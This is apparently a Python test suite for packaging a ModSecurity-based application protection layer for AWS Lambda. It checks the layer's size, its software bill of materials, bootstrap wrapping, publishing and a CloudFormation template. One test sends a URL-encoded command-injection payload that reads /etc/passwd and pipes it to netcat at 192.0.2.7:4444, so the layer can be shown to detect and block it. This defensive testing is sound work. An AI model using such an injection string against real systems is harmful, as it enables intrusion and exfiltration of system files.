"""The layer as a function gets it: built, unzipped, in the place of /opt; and the scripts around it."""
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile

from console_test import PYTHON, Protected
from functions import BAD, GOOD, PROGRAMS, ROOT, Run, Skip, http_event, main

FOLDER = os.path.join(ROOT, "packaging/lambda")
RULES = "/usr/share/modsecurity-crs"
_layer = []


def layer(place):
    """Built once, from the programs under test."""
    if os.environ.get("YAGURA_SANITIZED") == "1":
        raise Skip("a layer is made of release programs")
    if not os.path.isdir(RULES):
        raise Skip("modsecurity-crs is missing")
    if not _layer:
        out = subprocess.run([os.path.join(FOLDER, "build-layer.sh"), "--built", os.path.dirname(PROGRAMS),
                              "--output", place], capture_output=True, text=True, check=False)
        assert out.returncode == 0, out.stderr
        with open(out.stdout.split()[-1], "rb") as stream:
            _layer.append((os.path.basename(out.stdout.split()[-1]), stream.read()))
    path = os.path.join(place, _layer[0][0])
    with open(path, "wb") as stream:
        stream.write(_layer[0][1])
    opt = os.path.join(place, "opt")
    subprocess.run(["unzip", "-q", path, "-d", opt], check=True)
    return path, opt


def test_the_layer_is_small_and_complete(place):
    path, opt = layer(place)
    assert os.path.getsize(path) <= 6_000_000, os.path.getsize(path)
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
    for name in ("extensions/yagura-application", "yagura-wrapper", "yagura/rules.bin",
                 "yagura/lib/ld-yagura.so", "yagura/licences/yagura"):
        assert name in names, names
    for name in ("extensions/yagura-application", "yagura-wrapper"):
        said = subprocess.run(["readelf", "-lW", os.path.join(opt, name)], capture_output=True, text=True, check=True)
        assert "INTERP" not in said.stdout, name + " is static"


def test_the_bill_of_materials(place):
    """Whatever is in the zip: the programs, the libraries as they are shipped, and what is linked in as the document has it."""
    _, opt = layer(place)
    with open(os.path.join(opt, "yagura/sbom.cdx.json"), encoding="utf-8") as stream:
        bill = json.load(stream)
    named = {component["name"]: component for component in bill["components"]}
    unused = re.search(r"UNUSED='(.*?)'", open(os.path.join(FOLDER, "build-layer.sh"), encoding="utf-8").read())[1].split()
    shipped = {"yagura-application": "extensions/yagura-application", "yagura-wrapper": "yagura-wrapper",
               "yagura-application-reporter": "yagura/bin/yagura-application-reporter",
               **{name: "yagura/lib/" + name for name in os.listdir(os.path.join(opt, "yagura/lib"))
                  if not name.startswith(tuple(unused))}}
    for name, path in shipped.items():
        with open(os.path.join(opt, path), "rb") as stream:
            assert named[name]["hashes"][0]["content"] == hashlib.sha256(stream.read()).hexdigest(), name
    with open(os.path.join(ROOT, "docs/dependencies.md"), encoding="utf-8") as stream:
        rows = [line.split(" | ") for line in stream if "`yagura-application` (linked in)" in line]
    linked = {re.search(r"`(.*?)`", row[0])[1] for row in rows} | {"modsecurity-crs"}
    static = {component["properties"][0]["value"]: component for component in named.values()
              if component["bom-ref"].startswith("static:")}
    assert static.keys() == linked and len(named) == len(shipped) + len(linked), (static.keys(), linked, named.keys())
    for component in named.values():
        assert component["version"] and (component["type"] == "application" or component["purl"]), component
    needs = {entry["ref"]: entry["dependsOn"] for entry in bill["dependencies"]}
    assert "static:libinjection" in needs["program:yagura-application"], needs


def test_a_function_with_the_layer(place):
    """The rules are the layer's, the reporter runs by the layer's loader, the console has the events."""
    _, opt = layer(place)
    with Protected(place) as protected:
        shell = http_event("/run", "cmd=%3Bcat%20%2Fetc%2Fpasswd%7Cnc%20192.0.2.7%204444")
        run = Run(place, [GOOD, BAD, shell, GOOD], PYTHON, options=["--timeout", "60000"],
                  extension=os.path.join(opt, "extensions/yagura-application"),
                  wrapper=os.path.join(opt, "yagura-wrapper"),
                  environment={"YAGURA_APPLICATION_HOME": os.path.join(opt, "yagura"),
                               "AWS_LAMBDA_FUNCTION_NAME": "layered", "YAGURA_APPLICATION_MODE": "",
                               "YAGURA_CONSOLE_URL": f"https://127.0.0.1:{protected.console.people_port}",
                               "YAGURA_CONSOLE_PIN": protected.console.pin, "YAGURA_CONSOLE_KEY_FILE": protected.key_file,
                               "YAGURA_APPLICATION_REPORT_MS": "30000"})
        assert [run.status(number) for number in range(4)] == [200] * 4, "without a policy it reports"
        assert run.lines == [], (run.lines, run.errors())
        found = protected.events("layered")
        assert [event["kind"] for event in found] == ["request_reported"] * 2, found
        details = [json.loads(event["detail"]) if isinstance(event["detail"], str) else event["detail"]
                   for event in found]
        rules = {finding["rule"] for detail in details for finding in detail["findings"]}
        assert any(930000 <= rule < 950000 for rule in rules), rules
        run = Run(place, [BAD, GOOD], PYTHON, options=["--timeout", "60000"],
                  extension=os.path.join(opt, "extensions/yagura-application"),
                  wrapper=os.path.join(opt, "yagura-wrapper"),
                  environment={"YAGURA_APPLICATION_HOME": os.path.join(opt, "yagura")})
        assert [run.status(number) for number in range(2)] == [403, 200], "mitigate, where no policy says otherwise"


def test_a_bootstrap_is_wrapped(place):
    _, opt = layer(place)
    function = os.path.join(place, "function.zip")
    with zipfile.ZipFile(function, "w") as archive:
        archive.writestr("bootstrap", "#!/bin/sh\necho mine\n")
        archive.writestr("data", "x")
    wrap = [os.path.join(FOLDER, "wrap-bootstrap.sh"), function, os.path.join(opt, "yagura-wrapper")]
    subprocess.run(wrap, check=True)
    assert subprocess.run(wrap, capture_output=True, check=False).returncode == 1, "only once"
    subprocess.run(["unzip", "-q", function, "-d", os.path.join(place, "task")], check=True)
    said = subprocess.run([os.path.join(place, "task", "bootstrap")], capture_output=True, text=True, check=True,
                          env={"YAGURA_APPLICATION_PORT": "1"})
    assert said.stdout == "mine\n" and "runs unprotected" in said.stderr


def test_publishing_says_what_it_would_do(place):
    zips = [os.path.join(place, f"yagura-application-layer-1-{name}.zip") for name in ("x86_64", "arm64")]
    for path in zips:
        with open(path, "wb"):
            pass
    said = subprocess.run([os.path.join(FOLDER, "publish.sh"), "--dry-run", "--region", "eu-central-1", "--region",
                           "ap-northeast-1", *zips], capture_output=True, text=True, check=True).stdout.splitlines()
    assert len(said) == 4 and all("publish-layer-version" in line for line in said), said
    assert "yagura-application-arm64" in said[2] and "--compatible-architectures arm64" in said[2]


def test_the_template(place):
    if shutil.which("cfn-lint"):
        said = subprocess.run(["cfn-lint", os.path.join(FOLDER, "template.yaml")], capture_output=True, text=True,
                              check=False)
        assert (said.returncode, said.stdout) == (0, ""), said.stdout
    with open(os.path.join(FOLDER, "template.yaml"), encoding="utf-8") as stream:
        lines = stream.read().split("ZipFile: |\n")[1].split("\n  Timer:")[0].splitlines()
    program = "\n".join(line[10:] for line in lines)
    os.environ.update(LAYER_X86="arn:aws:lambda:r:1:layer:y-x86_64:7", LAYER_ARM="", CONSOLE_URL="https://c:4119",
                      CONSOLE_PIN="", SENSOR_KEY_PARAMETER="/yagura/sensor-key")
    sys.modules["boto3"] = os
    code = {}
    exec(compile(program, "template.yaml", "exec"), code)  # pylint: disable=exec-used
    layers, variables = code["wanted"](
        {"Runtime": "nodejs20.x", "Layers": [{"Arn": "arn:other:1"}, {"Arn": "arn:aws:lambda:r:1:layer:y-x86_64:6"}],
         "Environment": {"Variables": {"MINE": "1"}}}, "mitigate")
    assert layers == ["arn:other:1", "arn:aws:lambda:r:1:layer:y-x86_64:7"], "the new version replaces the old one"
    assert variables == {"MINE": "1", "AWS_LAMBDA_EXEC_WRAPPER": "/opt/yagura-wrapper",
                         "YAGURA_APPLICATION_MODE": "mitigate", "YAGURA_CONSOLE_URL": "https://c:4119",
                         "YAGURA_CONSOLE_KEY_PARAMETER": "/yagura/sensor-key"}
    for alone in ({"Runtime": "provided.al2023"}, {"PackageType": "Image"}, {"Architectures": ["arm64"]},
                  {"Environment": {"Variables": {"AWS_LAMBDA_EXEC_WRAPPER": "/opt/otel"}}}):
        assert code["wanted"](alone, "report") is None, alone


if __name__ == "__main__":
    main()
